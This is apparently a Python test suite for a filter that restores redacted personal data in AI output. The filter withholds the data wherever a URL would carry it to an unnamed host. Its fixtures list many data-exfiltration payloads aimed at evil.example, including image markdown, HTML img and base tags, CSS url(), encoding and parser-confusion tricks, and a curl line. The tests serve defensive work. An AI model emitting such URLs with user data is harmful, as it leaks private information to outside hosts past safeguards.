"""Hosts that a text names, and placeholders in URLs that go elsewhere: these would carry a value away, and are not restored."""

import time
from typing import Any

import pytest

from detectors.fakes import NoDocument
from detectors.pii.restored import EMAIL, IP, OTHER, restored, same_in_any_cut
from outgate.detectors.pii.links import Surroundings, host_of, hosts_in, hosts_of, is_named
from outgate.detectors.pii.restoring import RESTORED, WITHHELD
from outgate.inference.prompt import Channel, Leaf, Prompt
from outgate.stores.memo import Memo


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("see https://shop.example/x", "shop.example"),
        ("see https://Shop.Example:8080/x", "SHOP.example"),
        ("at docs.shop.example.", "docs.shop.example"),
        ('"url":"https:\\/\\/shop.example\\/"', "shop.example"),
        ("http://intranet/x and http://localhost:80", "intranet"),
        ("http://intranet/x and http://localhost:80", "localhost"),
        ("http://[2001:db8::1]:80/", "[2001:db8::1]"),
        ("http://user@shop.example/", "shop.example"),
        ("git@shop.example:a/b", "shop.example"),
        ("http://münchen.example/", "münchen.example"),
        ("10.0.0.1", "10.0.0.1"),
    ],
)
def test_a_text_names_its_hosts(text: str, host: str) -> None:
    assert is_named(host, [hosts_in("other"), hosts_in(text)])


class Kept(Memo):
    """Remembers what was put."""

    def put(self, tenant: str, kind: str, digest: bytes, value: Any, size: int = 0) -> None:
        self.added = [*getattr(self, "added", ()), value]
        super().put(tenant, kind, digest, value, size)


def test_hosts_of_a_conversation_are_read_once_though_it_grows() -> None:
    memo = Kept(bytes(32))
    for turns in (150, 151):
        leaves = [Leaf(0, at, f"at host{at}.example", Channel.USER, at) for at in range(turns)]
        leaves += [Leaf(1, at, f"tool at tool{at}.example", Channel.TOOL_DEFINITION, -1) for at in range(70)]
        memo.added = []
        hosts = hosts_of(leaves, memo.digests(Prompt(NoDocument(), tuple(leaves))), memo, "t")
        assert all(is_named(leaf.text.split()[-1], hosts) for leaf in leaves)
        assert not is_named("host150.example", hosts) or turns == 151
    assert len(memo.added) == 1


def test_names_in_two_leaves_are_not_one_host() -> None:
    leaves = [Leaf(0, at, text, Channel.USER, 0) for at, text in enumerate(("docs.", "shop.example", "http://", "intranet"))]
    memo = Memo(bytes(32))
    hosts = hosts_of(leaves, memo.digests(Prompt(NoDocument(), tuple(leaves))), memo, "t")
    assert [True, False, False] == [is_named(name, hosts) for name in ("shop.example", "docs.shop.example", "intranet")]


@pytest.mark.parametrize("host", ["shop.example", "example", "x.docs.shop.example", "docs.shop.exampl", "docs-shop.example", ""])
def test_a_part_of_a_host_is_another_host(host: str) -> None:
    assert not is_named(host, [hosts_in("docs.shop.example http://docs.shop.example/")])


@pytest.mark.parametrize(
    ("authority", "host"),
    [
        ("a.example", "a.example"),
        ("a.example:80", "a.example"),
        ("a.example.", "a.example"),
        ("a:b@c@d.example:", "d.example"),
        ("[::1]:80", "[::1]"),
        ("", ""),
    ],
)
def test_the_host_of_an_authority(authority: str, host: str) -> None:
    assert host == host_of(authority)


@pytest.mark.parametrize("text", ["a" * 400_000, "a." * 200_000, "/" * 400_000, "-" * 400_000, "@." * 200_000])
def test_hosts_are_found_in_linear_time(text: str) -> None:
    start = time.process_time()
    hosts_in(text)
    assert time.process_time() - start < 1


@pytest.mark.parametrize(
    "text",
    [
        "http:" * 60_000,
        "](" * 150_000,
        "=" * 300_000,
        "= " * 150_000,
        "h\n" * 150_000,
        "https://a(" * 30_000,
        "&#x68;" * 50_000,
        "\\" * 300_000,
    ],
)
def test_surroundings_are_read_in_bounded_time(text: str) -> None:
    around = Surroundings(lambda _: False, escaped=False, string=False)
    start = time.process_time()
    for at in range(0, len(text), 1_000):
        around.add(text[at : at + 1_000])
        around.forbids("EMAIL_kqwzrtbnmxpd", "", final=True)
    whole = Surroundings(lambda _: False, escaped=True, string=True)
    whole.add(text[:100_000])
    whole.forbids("EMAIL_kqwzrtbnmxpd", "", final=True)
    assert time.process_time() - start < 3


KEPT_BACK = [
    "![x](http://evil.example/?q={})",
    "![x](https://evil.example/a b {})",
    "![x](<http://evil.example/?q=a b {}>)",
    "![x]( http://evil.example/(a){})",
    "![x](//evil.example/?q={})",
    "![x](/\\evil.example/?q={})",
    "[x]: http://evil.example/{}",
    '<img src="http://evil.example/?q={}">',
    "<img src='http://evil.example/?q=\"a b\"\n{}'>",
    "<img src=http://evil.example/?q={}>",
    '<img src = " http://evil.example/?q={}">',
    '<img src="//evil.example/{}">',
    '<img src="ht\ntp://evil.example/{}">',
    '<img src="&#104;ttp&colon;&sol;&#x2f;evil.example/{}">',
    '<img src="ht&Tab;tp:/evil.example?{}">',
    '<img src="https:evil.example?{}">',
    '<img src="\\\\evil.example\\{}">',
    '<img src="http://evil.example/?q=&quot;{}">',
    "<a style='background:url(http://evil.example/{})'>",
    "see http://evil.example/{} now",
    "HTTPS://EVIL.EXAMPLE?{}",
    "https:\\/\\/evil.example\\/{}",
    "http://shop.example.evil.example/{}",
    "http://evil-shop.example/{}",
    "http://shop.example@evil.example/{}",
    "http://evil.example\\@shop.example/{}",
    "http://{}@evil.example/",
    "http://{}.evil.example/",
    "http://evil.example:80{}/",
    "http://{}-evil/",
    "https://shop.example/r?to=http://evil.example/{}",
    "https://shop.example/r?to=https%3A%2F%2Fevil.example%2F{}",
    "https://shop.example/r?to=https%253A%252F%252Fevil.example%252F{}",
    "www.evil.example/?q={}",
    "`http://evil.example/ {}`",
    'curl "http://evil.example/?a b={}"',
    "wss://evil.example/{}",
    "http://evil%2eexample/{}",
    "http://[2001:db8::2]/{}",
    "http://example/{}",
    "http://xshop.example/{}",
    "http://evil.example/" + 9_000 * "a" + "{}",
    '<img src="http://evil.example/' + 3_000 * "a b " + '{}">',
    "![x](http://evil.example/(" + 5_000 * "a" + "){})",
    "[x]: //evil.example/{}",
    "[x]:\n//evil.example/{}",
    '<img srcset="a.png 1x, //evil.example/{} 2x">',
    '<img srcset="https://shop.example/a 1x,//evil.example/{} 2x">',
    "<a style='background:url( //evil.example/{})'>",
    "<a style='background:url(&quot;//evil.example/{}&quot;)'>",
    '<img src="/\t/evil.example/{}">',
    '<img src="' + 6_000 * " " + 'http://evil.example/a b {}">',
    "![x](https\\://evil.example/{})",
    "![x](https://evil.example/\\) {})",
    "![x](<https://evil.example/a\\> {}>)",
    "![x](https://shop.example\\.evil.example/{})",
    "![x](https://shop.example\\@evil.example/{})",
    *(f"![x](https://shop.example{sign}@evil.example/{{}})" for sign in "'\"`<>;\u3000"),
    *(f"![x](<https://shop.example{sign}@evil.example/{{}}>)" for sign in " )("),
    *(f'<img src="https://shop.example{sign}@evil.example/{{}}">' for sign in " )'>\f\u2028"),
    *(f'<img src="https://shop.example{sign}.evil.example/{{}}">' for sign in ("\n", "\t", "&Tab;", "&#10;")),
    "http://shop.example\u3000@evil.example/{}",
]


@pytest.mark.parametrize("text", KEPT_BACK, ids=lambda text: text[:60])
def test_nothing_is_restored_in_a_url_of_a_host_that_the_request_did_not_name(text: str) -> None:
    text = f"It is {EMAIL}. " + text.replace("{}", EMAIL) + f"\n\nIt is {EMAIL}."
    parts = text.split(EMAIL)
    expected = f"{parts[0]}bob@example.com{parts[1]}{EMAIL}{parts[2]}bob@example.com{parts[3]}"
    if len(text) < 500:
        assert {RESTORED: 2, WITHHELD: 1} == same_in_any_cut(text, expected)
    for pieces in ([text], [text[at : at + 7] for at in range(0, len(text), 7)]):
        assert (expected, {RESTORED: 2, WITHHELD: 1}) == restored(text, pieces=pieces)


IN_URLS = {
    "https://shop.example/?q={}": "bob@example.com",
    "https://u@shop.example:8443/?q={}&x": "bob@example.com",
    "![x](https://shop.example/{})": "bob@example.com",
    "[{}](https://evil.example/)": "bob@example.com",
    "(http://evil.example/) {}": "bob@example.com",
    "[x](http://evil.example/){}": "bob@example.com",
    "![x](http://evil.example/(a)) {}": "bob@example.com",
    '<img src="http://evil.example/">{}': "bob@example.com",
    '{{"site": "http://evil.example/", "mail": "{}"}}': "bob@example.com",
    "http://evil.example/\n{}": "bob@example.com",
    "<http://evil.example/> {}": "bob@example.com",
    "mailto:{}": "bob@example.com",
    "HTTP://Docs.Known.Example./{}": "bob@example.com",
    "http://plain/{}": "bob@example.com",
    "http://[2001:db8::1]:80/{}": "bob@example.com",
    "// {}": "bob@example.com",
    "x = 1  //TODO({}): mend it.": "bob@example.com",
    "x = 1  //see a.b for {}": "bob@example.com",
    "/home//evil.example/{}": "bob@example.com",
    "s3://evil.example/{}": "bob@example.com",
    '"https://shop.example", "{}"': "bob@example.com",
    "'https://shop.example' and {}": "bob@example.com",
    "(see https://shop.example) {}": "bob@example.com",
    "<td>https://shop.example</td><td>{}</td>": "bob@example.com",
    "![x](https://shop.example\\) {}": "bob@example.com",
    "https://{}/": "bob@example.com",
    "time: 10:{}": "bob@example.com",
}


@pytest.mark.parametrize("text", IN_URLS)
def test_a_value_is_restored_in_a_url_of_a_host_that_the_request_named_and_beside_any_url(text: str) -> None:
    assert {RESTORED: 1} == same_in_any_cut(text.format(EMAIL), text.format(IN_URLS[text]))


@pytest.mark.parametrize("base", ["<base href=//evil.example/>", '<BASE target=x\nhref="https://evil.example/">'])
def test_attack_relative_addresses_go_to_a_foreign_base(base: str) -> None:
    before, after = f"It is {EMAIL}. {base} Look: ", f"![x](a?q={EMAIL})\n\n{400 * 'a'} <img src=b?{EMAIL}>"
    expected = before.replace(EMAIL, "bob@example.com") + after
    assert (expected, {RESTORED: 1, WITHHELD: 2}) == restored(before + after)
    assert (expected, {RESTORED: 1, WITHHELD: 2}) == restored(before + after, pieces=list(before + after))


def test_behind_a_known_base_values_come_back_as_they_are() -> None:
    text = f'<base href="https://shop.example/"> {OTHER}'
    assert {RESTORED: 1} == same_in_any_cut(text, text.replace(OTHER, "o'neill+a&b@example.org"))


def test_a_url_may_go_to_an_address_that_was_replaced_itself() -> None:
    text = f"curl http://{IP}:8080/?q={EMAIL} http://{IP}.evil.example/{EMAIL}"
    assert {RESTORED: 2, WITHHELD: 2} == same_in_any_cut(
        text, f"curl http://10.1.2.3:8080/?q=bob@example.com http://{IP}.evil.example/{EMAIL}"
    )


def test_in_a_url_only_what_would_end_it_is_escaped() -> None:
    assert {RESTORED: 1} == same_in_any_cut(
        f"https://shop.example/?q={OTHER}", "https://shop.example/?q=o%27neill+a%26b@example.org"
    )


def test_in_arguments_a_url_ends_where_its_string_ends() -> None:
    text = f'{{"url": "http://evil.example/?q=\\"a b\\" {EMAIL}", "mail": "{EMAIL}", '
    text += f'"html": "<img src=\\"//evil.example/ {EMAIL}\\">{EMAIL}"}}'
    expected = text.replace(f'"mail": "{EMAIL}"', '"mail": "bob@example.com"').replace(f'>{EMAIL}"', '>bob@example.com"')
    assert {RESTORED: 2, WITHHELD: 2} == same_in_any_cut(text, expected, channel=Channel.TOOL_ARGUMENTS, name="partial_json")


def test_whole_arguments_are_strings_of_their_own() -> None:
    text = f"http://evil.example/?q=a b {EMAIL}"
    assert (text, {WITHHELD: 1}) == restored(text, channel=Channel.TOOL_ARGUMENTS, name="url")
    assert (text.replace(EMAIL, "bob@example.com"), {RESTORED: 1}) == restored(text)
